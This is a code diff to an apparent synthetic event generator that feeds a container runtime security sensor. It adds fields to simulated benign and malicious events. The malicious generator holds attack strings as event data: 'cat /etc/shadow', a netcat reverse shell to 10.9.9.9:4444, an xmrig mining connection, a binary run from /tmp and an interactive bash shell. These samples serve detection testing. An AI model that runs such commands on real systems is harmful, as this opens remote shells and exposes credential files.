@@ -57,6 +57,10 @@ def _base(rng: random.Random, c: tuple[Any, ...], pid: int) -> dict[str, Any]:
         "proc.pcmdline": pname, "proc.anames": [pname, "containerd-shim", "systemd"],
         "proc.apids": [pid - 1, 900, 1], "proc.is_exe_upper_layer": False, "user.uid": 0 if pid % 3 else 1000,
         "user.name": "root" if pid % 3 else "app", "user.loginuid": -1, "container.id": cid,
+        # what the sensor (sensor/fields.event_fields) and the process table (process._fields) set on every event
+        "evt.dir": "<", "evt.rawres": 0, "evt.res": "SUCCESS", "evt.failed": False, "thread.tid": pid,
+        "proc.exe": exe, "proc.exe_written": False, "proc.exe_drift": None, "proc.is_exe_from_memfd": False,
+        "proc.pexepath": "/usr/bin/containerd-shim-runc-v2" if pid % 7 == 0 else exe,
     }
     if cid != "host":
         f.update({"container.name": name, "container.image.repository": repo, "container.image.tag": tag,
@@ -74,6 +78,7 @@ def benign(rng: random.Random, t: int) -> Event:
         write = rng.random() < 0.2
         f.update({"evt.type": etype, "evt.dir": "<", "fd.name": rng.choice(WRITE_FILES if write else BENIGN_FILES),
                   "fd.typechar": "f", "evt.is_open_read": not write, "evt.is_open_write": write,
+                  "evt.is_open_create": write, "evt.is_open_exec": False,
                   "evt.arg.flags": "O_WRONLY|O_APPEND|O_CREAT" if write else "O_RDONLY|O_CLOEXEC", "evt.res": "SUCCESS"})
     elif r < 0.70:
         etype = "connect"
@@ -84,10 +89,13 @@ def benign(rng: random.Random, t: int) -> Event:
         etype = "execve"
         n, exe, cmd = rng.choice(HEALTH)
         f.update({"evt.type": etype, "proc.name": n, "proc.exepath": exe, "proc.cmdline": cmd,
-                  "proc.args": cmd.split(" ", 1)[1], "proc.pname": "runc" if n == "sh" else "sh"})
+                  "proc.args": cmd.split(" ", 1)[1], "proc.pname": "runc" if n == "sh" else "sh",
+                  "proc.exe": exe, "proc.pexepath": "/usr/bin/runc" if n == "sh" else "/bin/sh"})
     elif r < 0.84:
         etype = "accept4"
-        f.update({"evt.type": etype, "fd.sip": "172.17.0.2", "fd.sport": 80, "fd.cip": "10.0.0.5", "fd.cport": 51234})
+        f.update({"evt.type": etype, "fd.sip": "172.17.0.2", "fd.sport": 80, "fd.cip": "10.0.0.5", "fd.cport": 51234,
+                  "fd.typechar": "4", "fd.type": "ipv4", "fd.sockfamily": "ip", "fd.l4proto": "tcp",
+                  "fd.is_server": True, "evt.rawres": 7})
     elif r < 0.88:
         etype = "socket"
         f.update({"evt.type": etype, "evt.args": {"domain": "AF_INET", "type": "SOCK_STREAM", "proto": 0}})
@@ -110,18 +118,20 @@ def malicious(rng: random.Random, t: int) -> Event:
     kind = rng.randrange(5)
     if kind == 0:
         f.update({"evt.type": "openat", "fd.name": "/etc/shadow", "evt.is_open_read": True, "evt.is_open_write": False,
+                  "evt.is_open_create": False, "evt.is_open_exec": False, "fd.typechar": "f",
                   "proc.name": "cat", "proc.cmdline": "cat /etc/shadow"})
     elif kind == 1:
         f.update({"evt.type": "execve", "proc.name": "nc", "proc.exepath": "/bin/nc", "proc.args": "-e /bin/sh 10.9.9.9 4444",
-                  "proc.cmdline": "nc -e /bin/sh 10.9.9.9 4444", "proc.pname": "sh"})
+                  "proc.cmdline": "nc -e /bin/sh 10.9.9.9 4444", "proc.pname": "sh", "proc.exe": "/bin/nc",
+                  "proc.pexepath": "/bin/sh"})
     elif kind == 2:
         f.update({"evt.type": "connect", "fd.sip": "45.9.148.99", "fd.sport": 3333, "proc.name": "xmrig"})
     elif kind == 3:
         f.update({"evt.type": "execve", "proc.name": "x", "proc.exepath": "/tmp/x", "proc.is_exe_upper_layer": True,
-                  "proc.cmdline": "/tmp/x", "proc.args": ""})
+                  "proc.cmdline": "/tmp/x", "proc.args": "", "proc.exe": "/tmp/x"})
     else:
         f.update({"evt.type": "execve", "proc.name": "bash", "proc.exepath": "/bin/bash", "proc.cmdline": "bash -i",
-                  "proc.args": "-i", "proc.pname": rng.choice(c[4])})
+                  "proc.args": "-i", "proc.pname": rng.choice(c[4]), "proc.exe": "/bin/bash"})
     return Event(str(f["evt.type"]), t, f)
 
 
